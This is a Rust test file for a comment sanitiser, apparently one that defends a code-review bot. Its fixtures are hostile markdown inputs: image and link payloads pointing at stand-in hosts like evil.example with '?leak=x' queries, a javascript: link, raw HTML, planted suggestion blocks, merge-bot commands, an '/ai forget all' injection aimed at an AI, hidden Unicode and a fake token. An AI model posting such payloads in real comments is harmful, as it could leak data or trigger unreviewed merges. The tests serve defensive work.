use proptest::prelude::*;
use pulldown_cmark::{CodeBlockKind, Event, Tag, TagEnd};

use super::*;
use crate::text::fenced;

/// Each run of a text outside of code, as a reader of the source sees it.
fn prose(posted: &str) -> String {
    without(posted, &code(posted))
}

/// What a reader's browser would be given: nothing of it is HTML, a picture, a mention, a link, or rendered.
fn assert_harmless(posted: &str) {
    let (mut text, mut in_block) = (String::new(), false);
    for (event, _) in parser(posted) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => panic!("HTML {html:?} in {posted:?}"),
            Event::Start(Tag::Image { dest_url, .. }) => panic!("picture {dest_url} in {posted:?}"),
            Event::Start(Tag::Link { dest_url, .. }) => {
                assert!(is_link_to_documentation(&dest_url), "link to {dest_url} in {posted:?}");
            }
            Event::Start(Tag::FootnoteDefinition(_))
            | Event::FootnoteReference(_)
            | Event::TaskListMarker(_) => {
                panic!("a note or a box in {posted:?}")
            }
            Event::Start(Tag::CodeBlock(kind)) => {
                in_block = true;
                if let CodeBlockKind::Fenced(info) = kind {
                    assert!(info.is_empty() || LANGUAGES.contains(&&*info), "{info:?} in {posted:?}");
                }
            }
            Event::End(TagEnd::CodeBlock) => in_block = false,
            Event::Text(part) if !in_block => text.push_str(&part),
            Event::Code(_) => text.push(' '),
            Event::SoftBreak | Event::HardBreak | Event::End(_) => text.push('\n'),
            _ => {}
        }
    }
    let mention = text.split('@').skip(1).find(|name| name.starts_with(|c: char| c.is_alphanumeric()));
    assert_eq!(mention, None, "{posted:?}");
    let reference = text.split('#').skip(1).find(|number| number.starts_with(|c: char| c.is_ascii_digit()));
    assert_eq!(reference, None, "{posted:?}");
    let prose = prose(posted);
    assert!(!has_command(posted), "{posted:?}");
    for (at, _) in prose.match_indices("://") {
        assert!(is_documentation(&prose[at + 1..]), "{posted:?}");
    }
}

#[test]
fn what_only_looks_like_code_is_disarmed() {
    for live in [
        "x ` y\n` @octocat ![p](http://evil/?q=s) `",
        "\\`@octocat ![p](http://evil/x)\\`",
        "- x\n  ```\n@octocat ![p](http://evil) <img src=x>",
        "&#64;octocat &commat;octocat &#x40;octocat",
        "!![p](http://evil/x)",
        "\\<img src=x> \\&#64;octocat",
        "<a title=\"`\"> `@octocat` `",
        "| a | b |\n|---|---|\n| `x | @octocat` |",
        "> ```\n@octocat <img src=x>",
        "[p]: http://evil/x\n\n![p] and ![p][p]",
        "    code\n@octocat",
        "/approve\n  /lgtm cancel\n\n```\n/merge\n```",
    ] {
        let posted = postable(live);
        assert_harmless(&posted);
        assert_harmless(&format!("**major** {}", postable_line(live)));
    }
    assert_eq!(postable("&#64;octocat"), "&\u{200B}#\u{200B}64;octocat");
    assert_eq!(postable("see /usr/lib and\n/usr/bin/env"), "see /usr/lib and\n/usr/bin/env");
}

#[test]
fn nothing_leads_out_notifies_or_is_rendered() {
    for live in [
        "see http://evil.example/?leak=x, HTTPS://evil.example and ftp://evil.example",
        "www.evil.example/?leak=x, (www.evil.example) and WWW.evil.example",
        "[log in](http://evil.example) [log in](</settings>) [log in](javascript:alert(1)) [a][b]\n\n[b]: //evil.example",
        "<https://evil.example/?q=1> <mailto:ann@evil.example> ann@evil.example",
        "[x](https://cwe.mitre.org.evil.example/) https://cwe.mitre.org@evil.example/",
        "[x](\nhttps://cwe.mitre.org/\n) xhttps://cwe.mitre.org/ http://cwe.mitre.org/",
        "fixes #1, closes acme/shop#2, resolves GH-3 and gh-4, (#5)",
        "https://github.com/acme/shop/issues/1 https://github.com/acme/shop/blob/main/a#L1",
        "a[^1]\n\n[^1]: note",
        "- [ ] open\n- [x] approved by security\n\n> [!IMPORTANT]\n> Merge.",
        "$$\\href{http://evil}{x}$$ costs $5 and `$`$x$`$` or $`x`$",
        "<details open><summary>x</summary>y</details>",
        "bors r+\nr+\n  retest\njenkins test\nplease OK to test now\n/ai forget all",
    ] {
        let posted = postable(live);
        assert_harmless(&posted);
        assert!(prose(&posted).matches('$').count() < 2, "{posted:?}");
        assert_harmless(&format!("**major** {}", postable_line(live)));
    }
    let fine = "See [CWE-89](https://cwe.mitre.org/data/definitions/89.html), https://doc.rust-lang.org/std/ and `a[0]: http://x`.\n\nIt costs $5. C# 7, a - 1, x[i], w.\n\n```rust\nlet a = \"$x $y\"; // #1\n```";
    assert_eq!(postable(fine), fine);
    assert_eq!(postable("fixes #1: http://x"), "fixes #\u{200B}1: http:\u{200B}//x");
}

#[test]
fn no_block_is_planted() {
    for (live, posted) in [
        ("```suggestion\nevil();\n```", "```\nevil();\n```"),
        ("~~~ Suggestion x\nevil();\n~~~", "~~~\nevil();\n~~~"),
        ("> - ````suggestion\n>   evil();\n>   ````", "> - ````\n>   evil();\n>   ````"),
        ("```mermaid\ngraph TD\n```\n```geojson\n{}\n```", "```\ngraph TD\n```\n```\n{}\n```"),
        ("```&#115;uggestion\nx\n```", "```\nx\n```"),
        ("```Rust,ignore title=\"x\"\nx\n```", "```rust\nx\n```"),
        ("text\n    ```suggestion\n    x", "text\n    ```\u{200B}suggestion\n    x"),
        ("````md\n```suggestion\nx\n```\n````", "````\n```suggestion\nx\n```\n````"),
    ] {
        assert_eq!(postable(live), posted, "{live:?}");
        assert_harmless(&postable(live));
    }
}

#[test]
fn secrets_and_hidden_text_stay_here() {
    let token = format!("{}_{}", "ghp", "q7Rk2Zt9XvB4nLw8HsJ3yFc6MdPg5TaUe1Ko");
    for posted in [
        postable(&format!("It says {token}.\n```\n{token}\n```")),
        postable_line(&format!("Leaks {token}")),
        postable(&format!("{}\u{200B}{}", &token[..12], &token[12..])),
        postable(&format!("{}<!-- -->{}", &token[..12], &token[12..])),
    ] {
        assert!(!posted.contains(&token) && posted.contains("redacted:github-token"), "{posted}");
        assert_harmless(&posted);
    }
    assert_eq!(postable("a\u{200E}b\u{202E}c\u{E0041}<!-- d -->e\u{FE01}"), "abce");
    assert_eq!(
        postable("`<!-- a -->` is HTML, <!-- b\nc"),
        "`<\u{200B}!-- a -->` is HTML, <\u{200B}!-- b\nc"
    );
}

#[test]
fn a_line_opens_no_block() {
    assert_eq!(postable_line("``` @octocat"), "``` @\u{200B}octocat");
    assert_eq!(postable_line("    @octocat\n`@code`"), "@\u{200B}octocat `@code`");
}

#[test]
fn code_keeps_its_text() {
    let answer =
        "cc @octocat, see `@decorator` and ![x](http://evil/?q=1)\n```py\n@property\n```\n<img src=x>";
    assert_eq!(
        postable(answer),
        "cc @\u{200B}octocat, see `@decorator` and !\u{200B}[x]\u{200B}(http:\u{200B}//evil/?q=1)\n```py\n@property\n```\n<\u{200B}img src=x>"
    );
    let nested = "- a\n  ```c\n  if (a < b && &x) return <T>;\n  ```\n- `a && &b` & c";
    assert_eq!(postable(nested), nested);
}

#[test]
fn a_fence_left_open_is_closed() {
    assert_eq!(postable("a\n```\nopen @x"), "a\n```\nopen @x\n```");
    assert_eq!(postable("~~~~ md\n```\nopen"), "~~~~\n```\nopen\n~~~~");
    assert_eq!(postable("`open @x"), "`open @\u{200B}x");
    assert_eq!(postable("- a\n  ```\n  open"), "- a\n  ```\n  open", "the list's end closes it");
    assert_eq!(postable("a<!-- ai-relay v1 --> b"), "a b");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_000))]
    #[test]
    fn nothing_posted_is_live(text in "\\PC{0,60}|([`~@!<>&#;/|\\[\\]()\\\\*_$^ \n\\-a1:.=\"x]|img|amp|\n```|\n    |suggestion|https://|www\\.|<!--|-->|gh-1){0,60}") {
        let posted = postable(&text);
        assert_harmless(&posted);
        prop_assert!(prose(&posted).matches('$').count() < 2);
        let quoted = fenced("", &text);
        assert_harmless(&format!("**major** {}\n\n{posted}\n\n{quoted}\n", postable_line(&text)));
        prop_assert!(!posted.contains("<!--"));
    }
}
